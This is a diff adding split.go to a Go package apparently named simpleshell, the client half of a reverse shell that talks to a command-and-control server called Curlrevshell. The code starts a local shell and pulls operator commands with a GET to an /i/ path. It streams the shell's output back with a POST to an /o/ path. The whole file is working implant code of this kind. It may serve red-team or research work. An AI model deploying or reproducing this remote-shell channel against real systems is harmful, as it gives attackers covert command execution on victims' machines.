@@ -0,0 +1,169 @@
+package simpleshell
+
+/*
+ * split.go
+ * Separate requests for input and output
+ * By J. Stuart McMurray
+ * Created 20261016
+ * Last Modified 20261016
+ */
+
+import (
+	"context"
+	"fmt"
+	"io"
+	"math/rand/v2"
+	"net/http"
+	"net/url"
+	"strconv"
+	"strings"
+	"sync/atomic"
+
+	"golang.org/x/sync/errgroup"
+)
+
+const (
+	// InputPath is the path prefix on Curlrevshell from which ModeSplit
+	// gets input.  It is followed by an ID.
+	InputPath = "/i/"
+	// OutputPath is the path prefix on Curlrevshell to which ModeSplit
+	// sends output.  It is followed by an ID.
+	OutputPath = "/o/"
+)
+
+// goSplit connects the shell from newShell to Curlrevshell with a GET for
+// input and a POST for output.  As Curlrevshell doesn't respond to the GET
+// until it has input, the shell is started before we know if Curlrevshell is
+// there.  connected is true once the GET gets a response.
+func goSplit(
+	ctx context.Context,
+	conf ConnConfig,
+	client *http.Client,
+	newShell func() (Shell, error),
+) (connected bool, err error) {
+	/* Work out where to connect. */
+	id := strconv.FormatUint(rand.Uint64(), 36)
+	iu, ou, err := splitURLs(conf.C2, id)
+	if nil != err {
+		return false, err
+	}
+	shell, err := newShell()
+	if nil != err {
+		return false, err
+	}
+
+	/* Input comes from a GET. */
+	var gotInput atomic.Bool
+	eg, ectx := errgroup.WithContext(ctx)
+	ictx, icancel := context.WithCancel(ectx)
+	defer icancel()
+	ir, iw := io.Pipe()
+	shell.SetInput(ir)
+	eg.Go(func() error {
+		err := getInput(ictx, conf, client, iu, iw, &gotInput)
+		iw.CloseWithError(err)
+		if nil != ictx.Err() { /* Shell's done or the POST failed. */
+			return nil
+		}
+		return err
+	})
+
+	/* Output goes in a POST. */
+	eg.Go(func() error {
+		return postOutput(ectx, conf, client, ou, shell.Output())
+	})
+
+	/* Run the shell and wait for everything to finish. */
+	serr := shell.Go(ctx)
+	icancel() /* Nothing to read input anymore. */
+	ir.Close()
+	err = eg.Wait()
+	connected = gotInput.Load()
+	if nil != ctx.Err() {
+		return connected, nil
+	} else if nil != err {
+		return connected, err
+	} else if nil != serr {
+		return connected, fmt.Errorf("running %s: %w", shell, serr)
+	}
+	return connected, nil
+}
+
+// splitURLs returns the input and output URLs for the given ID.  c2's last
+// IOPath, if it has one, is removed.
+func splitURLs(c2, id string) (input, output string, err error) {
+	u, err := url.Parse(c2)
+	if nil != err {
+		return "", "", fmt.Errorf("parsing C2 URL: %w", err)
+	}
+	base := strings.TrimSuffix(strings.TrimSuffix(u.Path, "/"), IOPath)
+	u.Path = base + InputPath + id
+	input = u.String()
+	u.Path = base + OutputPath + id
+	output = u.String()
+	return input, output, nil
+}
+
+// getInput requests input from u and copies it to w.  connected is set once
+// the request gets a response.
+func getInput(
+	ctx context.Context,
+	conf ConnConfig,
+	client *http.Client,
+	u string,
+	w io.Writer,
+	connected *atomic.Bool,
+) error {
+	/* Ask for input. */
+	req, err := newRequest(ctx, conf, http.MethodGet, u, nil)
+	if nil != err {
+		return fmt.Errorf("preparing input request: %w", err)
+	}
+	res, err := client.Do(req)
+	if nil != err {
+		return fmt.Errorf("requesting input from %s: %w", u, err)
+	}
+	defer res.Body.Close()
+	if http.StatusOK != res.StatusCode {
+		return fmt.Errorf(
+			"requesting input from %s: %w",
+			u,
+			StatusError(res.StatusCode),
+		)
+	}
+	connected.Store(true)
+
+	/* Send it to the shell. */
+	if _, err := io.Copy(w, res.Body); nil != err {
+		return fmt.Errorf("reading input: %w", err)
+	}
+	return nil
+}
+
+// postOutput sends r's contents to u.  The transport closes r.
+func postOutput(
+	ctx context.Context,
+	conf ConnConfig,
+	client *http.Client,
+	u string,
+	r io.ReadCloser,
+) error {
+	req, err := newRequest(ctx, conf, http.MethodPost, u, r)
+	if nil != err {
+		r.Close()
+		return fmt.Errorf("preparing output request: %w", err)
+	}
+	res, err := client.Do(req)
+	if nil != err {
+		return fmt.Errorf("sending output to %s: %w", u, err)
+	}
+	defer res.Body.Close()
+	if http.StatusOK != res.StatusCode {
+		return fmt.Errorf(
+			"sending output to %s: %w",
+			u,
+			StatusError(res.StatusCode),
+		)
+	}
+	return nil
+}